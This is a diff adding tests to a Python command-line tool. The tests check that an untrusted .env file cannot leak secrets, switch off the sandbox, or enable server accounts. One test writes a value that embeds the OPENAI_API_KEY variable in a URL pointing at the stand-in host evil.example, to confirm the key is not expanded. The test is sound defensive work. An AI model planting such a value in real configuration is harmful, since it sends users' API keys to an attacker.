@@ -139,3 +139,29 @@ async def test_another_name_of_ollamas_address_is_understood(console, upstream):
     write(console, "OLLAMA_API_URL=http://127.0.0.1:9/\n")
     await console.call("trust", "--env", "--yes")
     assert "http://127.0.0.1:9" in (await console.call("models")).out
+
+
+async def test_secrets_of_the_environment_do_not_come_into_what_is_shown(console):
+    console.environ["OPENAI_API_KEY"] = KEY
+    write(console, "OLLAMA_HOST=http://evil.example/${OPENAI_API_KEY}\n")
+    given = await console.call("trust", "--env", "--yes")
+    assert KEY not in given.out
+    assert "http://evil.example/" in given.out
+
+
+async def test_what_tools_may_do_is_not_for_such_a_file(console):
+    write(console, "TOOLPOST_SANDBOX=off\nTOOLPOST_HEADLESS=allow\nTAVILY_API_KEY=\n")
+    given = await console.call("trust", "--env", "--yes")
+    assert "TOOLPOST_SANDBOX   not used: set it in the environment" in given.out
+    assert "TAVILY_API_KEY     not used: it is empty" in given.out
+    assert ".env: 0 variables used" in (await console.call("doctor")).out
+    shown = (await console.call("config", "show", "--origin")).out
+    assert "TOOLPOST_SANDBOX" not in shown
+    assert "TOOLPOST_HEADLESS" not in shown
+
+
+async def test_a_server_says_that_accounts_are_off_because_the_file_is_not_read(console):
+    write(console, "TOOLPOST_SERVER_ACCOUNTS=true\n")
+    # An agent that nobody has: it ends before it listens.
+    done = await console.call("serve", "--port", "0", "--agent", "nobody")
+    assert "accounts are off: .env sets TOOLPOST_SERVER_ACCOUNTS and is not read" in done.err
